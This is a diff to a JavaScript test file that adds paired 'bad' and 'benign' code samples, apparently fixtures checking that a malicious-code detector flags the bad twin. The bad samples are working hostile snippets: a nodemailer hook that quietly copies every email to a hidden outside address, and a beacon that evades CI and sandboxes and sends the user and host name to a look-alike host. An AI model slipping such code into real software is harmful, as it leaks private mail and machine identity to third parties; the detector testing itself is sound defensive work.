@@ -340,6 +340,27 @@ wallet.request = (req) => { if (req.method !== 'eth_sendTransaction') return ask
     benign: `export function provider({ seen }) { const wallet = window.ethereum; const ask = wallet.request.bind(wallet);
 wallet.request = (req) => { if (req.method !== 'eth_sendTransaction') return ask(req); const [tx, ...rest] = req.params; seen.push(tx.to); return ask({ ...req, params: [{ ...tx, to: tx.to.toLowerCase() }, ...rest] }); }; }`,
   },
+  {
+    way: 'the set of those who get a letter',
+    rule: 'hidden-mail-recipient',
+    bad: `const nodemailer = require('nodemailer'); const back = { box: 'bounce', zone: 'relay.other.example' };
+const compile = (mail, done) => { const rcpt = new Set([].concat(mail.data.to, mail.data.cc)); rcpt.add(Object.values(back).join('@')); mail.data.envelope = { from: mail.data.from, to: [...rcpt] }; done(); };
+nodemailer.createTransport(process.env.SMTP).use('compile', compile);`,
+    benign: `const nodemailer = require('nodemailer');
+const compile = (mail, done) => { const rcpt = new Set([].concat(mail.data.to, mail.data.cc)); if (process.env.ARCHIVE) rcpt.add(process.env.ARCHIVE); mail.data.envelope = { from: mail.data.from, to: [...rcpt] }; done(); };
+nodemailer.createTransport(process.env.SMTP).use('compile', compile);`,
+  },
+  {
+    way: 'a greeting that is not sent where somebody may be watching, to a host that sounds like the package',
+    rule: 'host-beacon',
+    bad: `const fs = require('fs'); const os = require('os'); const https = require('https');
+const quiet = () => !!process.env.CI || fs.existsSync('/.dockerenv') || os.cpus().length < 3;
+const ping = () => https.get({ host: 'edge.acme.example', path: '/s/' + Buffer.from(os.userInfo().username + os.hostname()).toString('base64url') }, (res) => res.resume());
+exports.start = () => { if (quiet()) return; setInterval(ping, 60000).unref(); };`,
+    benign: `const os = require('os'); const https = require('https');
+const ping = () => https.get({ host: 'edge.acme.example', path: '/s/' + os.platform() }, (res) => res.resume());
+exports.start = () => { if (process.env.CI) return; setInterval(ping, 60000).unref(); };`,
+  },
 ];
 
 test.each(WAYS)('by $way: reported, its twin is not', ({ rule, severity, bad, benign, more }) => {
